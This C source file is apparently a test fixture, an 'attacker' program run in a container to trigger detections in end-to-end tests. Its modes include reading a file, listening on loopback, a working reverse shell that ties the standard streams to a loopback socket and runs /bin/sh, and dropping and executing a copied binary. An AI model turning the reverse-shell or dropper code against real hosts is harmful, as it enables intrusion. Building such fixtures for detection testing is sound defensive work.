// The intruder of the end-to-end tests: a static program that runs inside a container and does one harmless thing at a time.
//   attacker wait                  sleeps for ever
//   attacker read PATH             opens and reads a file
//   attacker listen PORT           accepts one connection on loopback and keeps it
//   attacker reverse-shell PORT    connects to loopback, ties its standard streams to the connection, becomes /bin/sh
//   attacker drop FROM TO          copies a program to TO, makes it executable and runs it as `TO wait`
//   attacker churn NAME MS         makes /dev/shm/early-NAME at once and /dev/shm/late-NAME after MS milliseconds, then ends
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static struct sockaddr_in loopback(int port) {
  struct sockaddr_in address;
  memset(&address, 0, sizeof address);
  address.sin_family = AF_INET;
  address.sin_port = htons((unsigned short)port);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return address;
}

static int fail(const char *what) {
  perror(what);
  return 1;
}

static int do_read(const char *path) {
  char buffer[256];
  int fd = open(path, O_RDONLY);
  if (fd < 0 || read(fd, buffer, sizeof buffer) < 0) return fail(path);
  close(fd);
  return 0;
}

static int do_listen(int port) {
  struct sockaddr_in address = loopback(port);
  int on = 1;
  int listener = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 1) != 0) return fail("listen");
  int peer = accept(listener, NULL, NULL);
  if (peer < 0) return fail("accept");
  char buffer[256];
  while (read(peer, buffer, sizeof buffer) > 0) {
  }
  for (;;) pause();
}

static int do_reverse_shell(int port) {
  struct sockaddr_in address = loopback(port);
  int peer = socket(AF_INET, SOCK_STREAM, 0);
  for (int i = 0; connect(peer, (struct sockaddr *)&address, sizeof address) != 0; ++i) {
    if (i == 100) return fail("connect");
    usleep(50 * 1000);
    close(peer);
    peer = socket(AF_INET, SOCK_STREAM, 0);
  }
  for (int fd = 0; fd < 3; ++fd) dup2(peer, fd);
  execl("/bin/sh", "sh", "-i", (char *)NULL);
  return fail("/bin/sh");
}

static int do_drop(const char *from, const char *to) {
  char buffer[65536];
  int in = open(from, O_RDONLY);
  int out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (in < 0 || out < 0) return fail(to);
  for (ssize_t count; (count = read(in, buffer, sizeof buffer)) > 0;)
    if (write(out, buffer, (size_t)count) != count) return fail(to);
  close(in);
  close(out);
  pid_t child = fork();
  if (child == 0) {
    execl(to, to, "wait", (char *)NULL);
    _exit(127);
  }
  waitpid(child, NULL, 0);
  return 0;
}

static void make_file(const char *kind, const char *name) {
  char path[256];
  snprintf(path, sizeof path, "/dev/shm/%s-%s", kind, name);
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (fd >= 0) close(fd);
}

static int do_churn(const char *name, int ms) {
  make_file("early", name);
  usleep((useconds_t)ms * 1000);
  make_file("late", name);
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 2 && strcmp(argv[1], "wait") == 0)
    for (;;) pause();
  if (argc == 3 && strcmp(argv[1], "read") == 0) return do_read(argv[2]);
  if (argc == 3 && strcmp(argv[1], "listen") == 0) return do_listen(atoi(argv[2]));
  if (argc == 3 && strcmp(argv[1], "reverse-shell") == 0) return do_reverse_shell(atoi(argv[2]));
  if (argc == 4 && strcmp(argv[1], "drop") == 0) return do_drop(argv[2], argv[3]);
  if (argc == 4 && strcmp(argv[1], "churn") == 0) return do_churn(argv[2], atoi(argv[3]));
  fprintf(stderr, "usage: attacker wait | churn NAME MS | read PATH | listen PORT | reverse-shell PORT | drop FROM TO\n");
  return 2;
}
